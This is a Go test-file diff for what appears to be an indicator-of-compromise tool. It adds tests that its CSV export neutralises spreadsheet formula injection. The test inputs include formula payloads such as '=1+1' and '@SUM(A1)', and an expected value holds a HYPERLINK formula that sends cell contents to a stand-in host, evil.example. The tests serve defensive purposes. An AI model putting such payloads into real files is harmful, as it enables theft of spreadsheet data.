@@ -6,6 +6,8 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"unicode"
+	"unicode/utf8"
 )
 
 func TestCheckValid(t *testing.T) {
@@ -205,6 +207,15 @@ func FuzzCheck(f *testing.F) {
 	}
 	f.Fuzz(func(t *testing.T, k uint8, v string) {
 		typ := Types[int(k)%len(Types)]
+		// A note may be any text (valid UTF-8: load refuses a file that
+		// is not): the CSV runs none as a formula and gives each back, its
+		// line ends as LF (a CSV reader's).
+		if utf8.ValidString(v) {
+			recs, err := csv.NewReader(bytes.NewReader(CSV([]Indicator{{Type: typ, Value: "x", Note: v}}))).ReadAll()
+			if err != nil || len(recs) != 2 || formulaStart(recs[1][2]) || CSVValue(recs[1][2]) != strings.ReplaceAll(v, "\r", "") {
+				t.Errorf("CSV of the note %q: %v %q", v, err, recs)
+			}
+		}
 		err := Check(typ, v)
 		d := Defang(typ, v)
 		p := Pattern(typ, v)
@@ -231,7 +242,7 @@ func FuzzCheck(f *testing.F) {
 			t.Fatalf("CSV of %q: %v %q", v, err, recs)
 		}
 		for _, field := range recs[1][1:3] {
-			if strings.ContainsRune("=+-@\t\r", rune(field[0])) || CSVValue(field) != strings.ReplaceAll(v, "\r\n", "\n") {
+			if formulaStart(field) || CSVValue(field) != strings.ReplaceAll(v, "\r\n", "\n") {
 				t.Errorf("CSV field %q of %q", field, v)
 			}
 		}
@@ -267,6 +278,11 @@ func TestCSVFormulas(t *testing.T) {
 		{Type: File, Value: "@invoice.pdf.exe", Note: "\tindented"},
 		{Type: File, Value: "'quoted'.txt", Note: "'quoted'"},
 		{Type: Email, Value: "=x@evil.example", Note: "\nafter a line end"},
+		{Type: Email, Value: "=x@evil.example", Note: "\n=1+1"},
+		{Type: Email, Value: "=x@evil.example", Note: "\r\n@SUM(A1)"},
+		{Type: Email, Value: "=x@evil.example", Note: " =1+1"},
+		{Type: Email, Value: "=x@evil.example", Note: "\u3000=1+1"},
+		{Type: Email, Value: "=x@evil.example", Note: "\x00=1+1"},
 		{Type: Email, Value: "-x@evil.example"},
 		{Type: Email, Value: "+x@evil.example"},
 		{Type: File, Value: "invoice=paid+1.exe", Note: "a note = not a formula"},
@@ -279,18 +295,18 @@ func TestCSVFormulas(t *testing.T) {
 		rec := recs[i+1]
 		for j, want := range []string{in.Value, in.Note} {
 			field := rec[j+1]
-			if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) {
+			if formulaStart(field) {
 				t.Errorf("record %d field %d %q starts a formula", i+1, j+2, field)
 			}
-			if CSVValue(field) != want {
+			if CSVValue(field) != strings.ReplaceAll(want, "\r", "") {
 				t.Errorf("record %d field %d %q gives back %q, want %q", i+1, j+2, field, CSVValue(field), want)
 			}
 		}
 	}
-	if CSVField("\rx") != "'\rx" || CSVField("") != "" {
+	if CSVField("\rx") != "'\rx" || CSVField("\nx") != "'\nx" || CSVField("") != "" || CSVField("x\n=1") != "x\n=1" {
 		t.Errorf("CSVField(CR x) = %q", CSVField("\rx"))
 	}
-	if recs[9][1] != "invoice=paid+1.exe" || recs[9][2] != "a note = not a formula" {
+	if recs[14][1] != "invoice=paid+1.exe" || recs[14][2] != "a note = not a formula" {
 		t.Errorf("a value that starts no formula is changed: %q", recs[9])
 	}
 	if recs[1][1] != `'=HYPERLINK("https://evil.example/?"&A1,"invoice")` || recs[5][1] != "''quoted'.txt" {
@@ -336,4 +352,11 @@ func TestVisible(t *testing.T) {
 			t.Errorf("Visible(%+q) = %q, want %q", c[0], got, c[1])
 		}
 	}
+}
+
+// formulaStart reports whether a field read from [CSV] starts with a
+// character that a spreadsheet may run as (or skip before) a formula.
+func formulaStart(field string) bool {
+	r, _ := utf8.DecodeRuneInString(field)
+	return field != "" && (strings.ContainsRune("=+-@", r) || unicode.IsSpace(r) || unicode.IsControl(r))
 }
